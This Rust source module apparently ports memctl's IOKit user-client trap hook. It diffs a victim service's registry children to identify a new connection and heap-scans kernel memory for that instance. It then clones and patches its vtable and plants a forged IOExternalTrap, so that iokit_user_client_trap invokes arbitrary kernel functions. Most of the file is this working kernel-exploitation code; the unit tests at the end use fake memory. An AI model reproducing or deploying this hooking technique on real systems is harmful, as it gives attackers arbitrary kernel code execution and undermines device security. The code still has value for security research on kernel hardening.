//! Component G: the IOKit user-client trap hook, grounded
//! on `hook`/`create_hooked_vtable`/`patch_user_client`/`kernel_call_init`/
//! `kernel_call_deinit` in
//! `examples/original_source/src/libmemctl/kernel_call.c`.
//!
//! XNU's `iokit_user_client_trap` Mach trap looks up which trap to invoke
//! by calling the user client's `getTargetAndTrapForIndex`, whose default
//! implementation in turn calls `getExternalTrapForIndex`. By replacing
//! that one vtable slot in a cloned copy of the victim class's vtable, and
//! pointing the user client's `IORegistryEntry::reserved` field (reused by
//! the default implementation as the trap pointer) at an attacker-built
//! `IOExternalTrap`, `iokit_user_client_trap` can be made to invoke an
//! arbitrary kernel function with the trap's `object` as its first
//! argument.
//!
//! Finding *which* live instance to hook is itself a three-step process:
//! [`open_with_known_instance`] opens the victim service and diffs its
//! children to learn the new connection's registry entry ID,
//! [`TrapHook::locate_instance`] heap-scans for the instance carrying
//! that ID, and [`TrapHook::install`] (via [`TrapHook::build_hooked_vtable`])
//! does the actual patching.

use crate::config::KernelCallConfig;
use crate::kernel_memory::{KernelMemory, KernelMemoryError};
use crate::symbols::ClassSymbols;
use std::sync::atomic::{AtomicBool, Ordering};
use thiserror::Error;

#[derive(Debug, Error)]
pub enum TrapHookError {
    #[error(transparent)]
    Memory(#[from] KernelMemoryError),
    #[error("victim vtable does not contain the target method, cannot hook it")]
    MethodNotInVtable,
    #[error("trap hook is not installed")]
    NotInstalled,
    #[error("trap hook is already installed")]
    AlreadyInstalled,
    #[error("could not enumerate the victim service's children: {0}")]
    ChildEnumeration(String),
    #[error("could not open a connection to the victim service: {0}")]
    ServiceOpen(String),
    #[error("{0} attempts to open the victim service all raced with another child appearing")]
    OpenRaced(u32),
    #[error("install aborted by fault injection after the vtable copy was written")]
    Injected,
    #[error("no heap instance with vtable {vtable:#x} and registry entry ID {id:#x} was found")]
    InstanceNotFound { vtable: u64, id: u64 },
    #[error("found two distinct heap instances with vtable {vtable:#x} and registry entry ID {id:#x}")]
    AmbiguousInstance { vtable: u64, id: u64 },
    #[error("heap scan was interrupted")]
    Interrupted,
}

/// One page-sized read of the kernel heap, as returned by repeated
/// `kernel_read_heap` calls (`find_registry_entry_with_id`'s `data`
/// buffer). Scanning is page-at-a-time because that is the unit the
/// underlying privileged read primitive actually hands back, not
/// because instances are page-aligned.
pub struct HeapPage<'a> {
    pub address: u64,
    pub bytes: &'a [u8],
}

/// Abstraction over `IORegistryEntryGetChildIterator` +
/// `IORegistryEntryGetRegistryEntryID` (`get_child_ids` in the grounding
/// source) and `IOServiceOpen` (`open_service_with_known_connection_id_once`).
/// A real implementation lives behind IOKit FFI this crate does not carry;
/// tests drive it with an in-memory fake.
pub trait ServiceOpener {
    /// Registry entry IDs of `service`'s current `IOService`-matching children.
    fn child_ids(&self, service: u64) -> Result<Vec<u64>, TrapHookError>;
    /// Opens a new connection to `service`, returning a connection handle.
    fn open(&self, service: u64) -> Result<u64, TrapHookError>;
}

/// Given the child-ID snapshot before and after `IOServiceOpen`, returns
/// the single newly appeared ID (the opened connection's own registry
/// entry), or `None` if zero or more than one new ID appeared -- the
/// latter meaning another process raced us and the attempt must retry.
fn diff_new_child(old_ids: &[u64], new_ids: &[u64]) -> Option<u64> {
    let mut found = None;
    for &candidate in new_ids {
        if old_ids.contains(&candidate) {
            continue;
        }
        if found.is_some() {
            return None;
        }
        found = Some(candidate);
    }
    found
}

/// Opens a connection to `service` and determines the registry entry ID
/// XNU assigned it, retrying up to `retries` times if the child-diff
/// comes back ambiguous, which happens when another process races us by
/// opening a sibling service at the same moment. Returns `(connection,
/// connection_id)`.
pub fn open_with_known_instance(
    opener: &dyn ServiceOpener,
    service: u64,
    retries: u32,
) -> Result<(u64, u64), TrapHookError> {
    for _ in 0..retries {
        let old_ids = opener.child_ids(service)?;
        let connection = opener.open(service)?;
        let new_ids = opener.child_ids(service)?;
        if let Some(id) = diff_new_child(&old_ids, &new_ids) {
            return Ok((connection, id));
        }
    }
    Err(TrapHookError::OpenRaced(retries))
}

/// A single slot swap: replace every occurrence of `from` with `to` within
/// the copied vtable.
#[derive(Debug, Clone, Copy)]
pub struct VtableSwap {
    pub from: u64,
    pub to: u64,
}

/// Layout of the kernel's `IOExternalTrap` (`IOUserClient.h`): three
/// machine words, object/func/offset.
#[derive(Debug, Clone, Copy)]
pub struct ExternalTrap {
    pub object: u64,
    pub func: u64,
    pub offset: u64,
}

impl ExternalTrap {
    pub const SIZE: usize = 24;

    fn to_bytes(self) -> [u8; Self::SIZE] {
        let mut out = [0u8; Self::SIZE];
        out[0..8].copy_from_slice(&self.object.to_le_bytes());
        out[8..16].copy_from_slice(&self.func.to_le_bytes());
        out[16..24].copy_from_slice(&self.offset.to_le_bytes());
        out
    }
}

/// Everything needed to hook and later restore one `IOUserClient`
/// instance, mirroring the original's static `hook` struct field-for-field
/// (modulo the Mach connection, which callers own independently of this
/// type memory/IPC split).
pub struct TrapHook {
    user_client: u64,
    user_client_reserved_address: u64,
    original_vtable: ClassSymbols,
    hooked_vtable: Option<u64>,
    trap: Option<u64>,
    installed: bool,
}

impl TrapHook {
    /// `user_client` is the address of the live `IOUserClient` instance;
    /// `user_client_reserved_address` is the address of the instance's
    /// `fRegistryEntryID` field (what [`locate_instance`](Self::locate_instance)
    /// returns as `id_address`), the field the default
    /// `getExternalTrapForIndex` reads the trap pointer back out of.
    pub fn new(user_client: u64, user_client_reserved_address: u64, original_vtable: ClassSymbols) -> Self {
        TrapHook {
            user_client,
            user_client_reserved_address,
            original_vtable,
            hooked_vtable: None,
            trap: None,
            installed: false,
        }
    }

    pub fn is_installed(&self) -> bool {
        self.installed
    }

    /// Heap-scans `pages` for an `IORegistryEntry` subclass instance
    /// carrying `vtable` whose `reserved->fRegistryEntryID` equals `id`
    /// (`find_registry_entry_with_id`). Every 8-byte-aligned slot equal to
    /// `vtable` is a candidate; the `reserved` pointer at
    /// `config.registry_entry_reserved_offset` bytes past it is followed
    /// into heap memory and the `fRegistryEntryID` word at
    /// `config.registry_entry_id_offset` bytes past *that* is compared
    /// against `id`. Candidates whose `reserved` pointer doesn't resolve
    /// to a byte in `pages` are skipped rather than treated as an error,
    /// matching the original's "couldn't read the reserved field, skip
    /// this one" behavior. Returns `(object_address, id_address)`: the
    /// instance's own address and the address of its `fRegistryEntryID`
    /// word, the latter being exactly the address [`TrapHook::new`]'s
    /// `user_client_reserved_address` parameter wants.
    pub fn locate_instance(
        pages: &[HeapPage],
        vtable: u64,
        id: u64,
        config: &KernelCallConfig,
        interrupted: &AtomicBool,
    ) -> Result<(u64, u64), TrapHookError> {
        let find_byte = |addr: u64| -> Option<u8> {
            for page in pages {
                if addr >= page.address && (addr - page.address) < page.bytes.len() as u64 {
                    return Some(page.bytes[(addr - page.address) as usize]);
                }
            }
            None
        };
        let read_u64 = |addr: u64| -> Option<u64> {
            let mut bytes = [0u8; 8];
            for (i, b) in bytes.iter_mut().enumerate() {
                *b = find_byte(addr + i as u64)?;
            }
            Some(u64::from_le_bytes(bytes))
        };

        let mut found: Option<(u64, u64)> = None;
        for page in pages {
            for offset in (0..page.bytes.len()).step_by(8) {
                if offset + 8 > page.bytes.len() {
                    break;
                }
                if interrupted.load(Ordering::Relaxed) {
                    return Err(TrapHookError::Interrupted);
                }
                let word = u64::from_le_bytes(page.bytes[offset..offset + 8].try_into().unwrap());
                if word != vtable {
                    continue;
                }
                let object = page.address + offset as u64;
                let Some(reserved) = read_u64(object + config.registry_entry_reserved_offset) else {
                    continue;
                };
                let id_address = reserved + config.registry_entry_id_offset;
                let Some(fregistry_entry_id) = read_u64(id_address) else {
                    continue;
                };
                if fregistry_entry_id != id {
                    continue;
                }
                if found.is_some() {
                    return Err(TrapHookError::AmbiguousInstance { vtable, id });
                }
                found = Some((object, id_address));
            }
        }
        found.ok_or(TrapHookError::InstanceNotFound { vtable, id })
    }

    /// Clones `original_vtable`'s bytes, replaces every occurrence of
    /// `swap.from` with `swap.to`, and writes the result to a fresh
    /// kernel allocation (`create_hooked_vtable`). Returns the new
    /// allocation's address. Fails with [`TrapHookError::MethodNotInVtable`]
    /// if `swap.from` never occurred, since a no-op hook would silently
    /// leave the original method callable.
    pub fn build_hooked_vtable(
        memory: &dyn KernelMemory,
        original_vtable: ClassSymbols,
        swap: VtableSwap,
    ) -> Result<u64, TrapHookError> {
        let vtable_bytes = memory.read_unsafe(original_vtable.vtable_address, original_vtable.vtable_len * 8)?;
        let mut patched = vtable_bytes;
        let mut found = false;
        for chunk in patched.chunks_exact_mut(8) {
            let word = u64::from_le_bytes(chunk.try_into().unwrap());
            if word == swap.from {
                chunk.copy_from_slice(&swap.to.to_le_bytes());
                found = true;
            }
        }
        if !found {
            return Err(TrapHookError::MethodNotInVtable);
        }
        let hooked_vtable = memory.allocate(patched.len())?;
        memory.write_unsafe(hooked_vtable, &patched)?;
        Ok(hooked_vtable)
    }

    /// Builds the modified vtable, writes it to a fresh kernel
    /// allocation, points `user_client`'s reserved field at a freshly
    /// allocated trap, and swaps the vtable pointer, in that order --
    /// matching `kernel_call_init`'s sequencing so that a mid-sequence
    /// failure leaves nothing half-hooked for `uninstall` to clean up
    /// incorrectly.
    pub fn install(&mut self, memory: &dyn KernelMemory, swap: VtableSwap) -> Result<(), TrapHookError> {
        if self.installed {
            return Err(TrapHookError::AlreadyInstalled);
        }

        let hooked_vtable = Self::build_hooked_vtable(memory, self.original_vtable, swap)?;
        self.hooked_vtable = Some(hooked_vtable);

        if failspot::failspot!(crate::FailSpotName::TrapHookInstallAfterVtableWrite) {
            return Err(TrapHookError::Injected);
        }

        let trap_addr = memory.allocate(ExternalTrap::SIZE)?;
        self.trap = Some(trap_addr);
        memory.write_heap(self.user_client_reserved_address, trap_addr)?;
        memory.write_heap(self.user_client, hooked_vtable)?;

        self.installed = true;
        Ok(())
    }

    /// Writes `func(object, ...)`'s `IOExternalTrap` so the next trap
    /// invocation through this hook calls it. The caller still has to
    /// actually fire `IOConnectTrap6`/`io_connect_method` through the Mach
    /// IPC layer; this only stages the function pointer.
    pub fn set_target(&self, memory: &dyn KernelMemory, object: u64, func: u64) -> Result<(), TrapHookError> {
        let trap = self.trap.ok_or(TrapHookError::NotInstalled)?;
        let trap_struct = ExternalTrap { object, func, offset: 0 };
        memory.write_unsafe(trap, &trap_struct.to_bytes())?;
        Ok(())
    }

    /// Restores the original vtable pointer and frees the hooked vtable
    /// and trap allocations, in the reverse order `kernel_call_deinit`
    /// uses (vtable pointer first, then the allocations it no longer
    /// needs).
    pub fn uninstall(&mut self, memory: &dyn KernelMemory) -> Result<(), TrapHookError> {
        if !self.installed {
            return Ok(());
        }
        memory.write_heap(self.user_client, self.original_vtable.vtable_address)?;
        self.installed = false;
        if let Some(hooked_vtable) = self.hooked_vtable.take() {
            memory.deallocate(hooked_vtable, self.original_vtable.vtable_len * 8)?;
        }
        if let Some(trap) = self.trap.take() {
            memory.deallocate(trap, ExternalTrap::SIZE)?;
        }
        Ok(())
    }
}

impl Drop for TrapHook {
    fn drop(&mut self) {
        // Best-effort: a Drop impl can't propagate a KernelMemoryError, and
        // a process that's dropping this hook is either exiting (the
        // kernel itself tears down the allocations) or has already called
        // uninstall() explicitly. Nothing to recover into here.
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::kernel_memory::fake::FakeKernelMemory;

    fn symbols() -> ClassSymbols {
        ClassSymbols {
            vtable_address: 0x2000,
            vtable_len: 4,
            metaclass_address: 0x3000,
        }
    }

    #[test]
    fn install_swaps_vtable_pointer_and_deposits_trap() {
        let memory = FakeKernelMemory::new(0x9000);
        let original = symbols();
        // Seed the victim's live vtable with four distinct method pointers.
        let words: [u64; 4] = [0x100, 0x101, 0x102, 0x103];
        let mut bytes = Vec::new();
        for w in words {
            bytes.extend_from_slice(&w.to_le_bytes());
        }
        memory.write_unsafe(original.vtable_address, &bytes).unwrap();
        memory.write_heap(0x50, original.vtable_address).unwrap(); // user_client's live vtable ptr

        let mut hook = TrapHook::new(0x50, 0x60, original);
        hook.install(&memory, VtableSwap { from: 0x102, to: 0x999 }).unwrap();
        assert!(hook.is_installed());
        assert_eq!(memory.read_u64(0x50).unwrap(), hook.hooked_vtable.unwrap());

        hook.set_target(&memory, 0x42, 0xdead_beef).unwrap();

        hook.uninstall(&memory).unwrap();
        assert!(!hook.is_installed());
        assert_eq!(memory.read_u64(0x50).unwrap(), original.vtable_address);
    }

    #[test]
    fn install_fails_when_target_method_absent() {
        let memory = FakeKernelMemory::new(0x9000);
        let original = symbols();
        memory.write_unsafe(original.vtable_address, &[0u8; 32]).unwrap();
        let mut hook = TrapHook::new(0x50, 0x60, original);
        let err = hook.install(&memory, VtableSwap { from: 0x102, to: 0x999 }).unwrap_err();
        assert!(matches!(err, TrapHookError::MethodNotInVtable));
    }

    #[test]
    fn double_install_is_rejected() {
        let memory = FakeKernelMemory::new(0x9000);
        let original = symbols();
        let mut bytes = Vec::new();
        bytes.extend_from_slice(&0x102u64.to_le_bytes());
        memory.write_unsafe(original.vtable_address, &bytes).unwrap();
        let mut hook = TrapHook::new(0x50, 0x60, ClassSymbols { vtable_len: 1, ..original });
        hook.install(&memory, VtableSwap { from: 0x102, to: 0x999 }).unwrap();
        let err = hook.install(&memory, VtableSwap { from: 0x102, to: 0x999 }).unwrap_err();
        assert!(matches!(err, TrapHookError::AlreadyInstalled));
    }

    struct FakeOpener {
        children_before: Vec<u64>,
        children_after: Vec<u64>,
        opened: std::cell::Cell<bool>,
    }

    impl ServiceOpener for FakeOpener {
        fn child_ids(&self, _service: u64) -> Result<Vec<u64>, TrapHookError> {
            Ok(if self.opened.get() {
                self.children_after.clone()
            } else {
                self.children_before.clone()
            })
        }

        fn open(&self, _service: u64) -> Result<u64, TrapHookError> {
            self.opened.set(true);
            Ok(0x77)
        }
    }

    #[test]
    fn diff_new_child_identifies_single_new_id() {
        assert_eq!(diff_new_child(&[1, 2, 3], &[1, 2, 3, 4]), Some(4));
        assert_eq!(diff_new_child(&[1, 2, 3], &[1, 2, 3]), None);
        assert_eq!(diff_new_child(&[1, 2, 3], &[1, 2, 3, 4, 5]), None);
    }

    #[test]
    fn open_with_known_instance_succeeds_on_first_try() {
        let opener = FakeOpener {
            children_before: vec![1, 2],
            children_after: vec![1, 2, 99],
            opened: std::cell::Cell::new(false),
        };
        let (connection, id) = open_with_known_instance(&opener, 0x10, 5).unwrap();
        assert_eq!(connection, 0x77);
        assert_eq!(id, 99);
    }

    #[test]
    fn open_with_known_instance_gives_up_after_retries() {
        let opener = FakeOpener {
            children_before: vec![1, 2],
            children_after: vec![1, 2, 3, 4], // ambiguous: two new IDs
            opened: std::cell::Cell::new(false),
        };
        let err = open_with_known_instance(&opener, 0x10, 3).unwrap_err();
        assert!(matches!(err, TrapHookError::OpenRaced(3)));
    }

    fn plant_instance(page: &mut [u8], offset: usize, vtable: u64, config: &KernelCallConfig, reserved: u64, id: u64) {
        page[offset..offset + 8].copy_from_slice(&vtable.to_le_bytes());
        let reserved_offset = offset + config.registry_entry_reserved_offset as usize;
        page[reserved_offset..reserved_offset + 8].copy_from_slice(&reserved.to_le_bytes());
    }

    #[test]
    fn locate_instance_finds_matching_vtable_and_registry_id() {
        let config = KernelCallConfig::default();
        let vtable = 0x4141_0000;
        let id = 0x99;
        let mut page = vec![0u8; 0x1000];
        plant_instance(&mut page, 0x100, vtable, &config, 0x5000, id);
        let mut reserved_page = vec![0u8; 0x1000];
        let id_offset = config.registry_entry_id_offset as usize;
        reserved_page[id_offset..id_offset + 8].copy_from_slice(&id.to_le_bytes());

        let pages = [
            HeapPage { address: 0x2000, bytes: &page },
            HeapPage { address: 0x5000, bytes: &reserved_page },
        ];
        let interrupted = AtomicBool::new(false);
        let (object, id_address) = TrapHook::locate_instance(&pages, vtable, id, &config, &interrupted).unwrap();
        assert_eq!(object, 0x2000 + 0x100);
        assert_eq!(id_address, 0x5000 + id_offset as u64);
    }

    #[test]
    fn locate_instance_reports_not_found_when_registry_id_mismatches() {
        let config = KernelCallConfig::default();
        let vtable = 0x4141_0000;
        let mut page = vec![0u8; 0x1000];
        plant_instance(&mut page, 0x100, vtable, &config, 0x5000, 0x11);
        let reserved_page = vec![0u8; 0x1000]; // fRegistryEntryID reads back as 0
        let pages = [
            HeapPage { address: 0x2000, bytes: &page },
            HeapPage { address: 0x5000, bytes: &reserved_page },
        ];
        let interrupted = AtomicBool::new(false);
        let err = TrapHook::locate_instance(&pages, vtable, 0x99, &config, &interrupted).unwrap_err();
        assert!(matches!(err, TrapHookError::InstanceNotFound { .. }));
    }

    #[test]
    fn locate_instance_rejects_two_matching_instances() {
        let config = KernelCallConfig::default();
        let vtable = 0x4141_0000;
        let id = 0x99;
        let mut page = vec![0u8; 0x1000];
        plant_instance(&mut page, 0x100, vtable, &config, 0x5000, id);
        plant_instance(&mut page, 0x200, vtable, &config, 0x5000, id);
        let mut reserved_page = vec![0u8; 0x1000];
        let id_offset = config.registry_entry_id_offset as usize;
        reserved_page[id_offset..id_offset + 8].copy_from_slice(&id.to_le_bytes());
        let pages = [
            HeapPage { address: 0x2000, bytes: &page },
            HeapPage { address: 0x5000, bytes: &reserved_page },
        ];
        let interrupted = AtomicBool::new(false);
        let err = TrapHook::locate_instance(&pages, vtable, id, &config, &interrupted).unwrap_err();
        assert!(matches!(err, TrapHookError::AmbiguousInstance { .. }));
    }
}
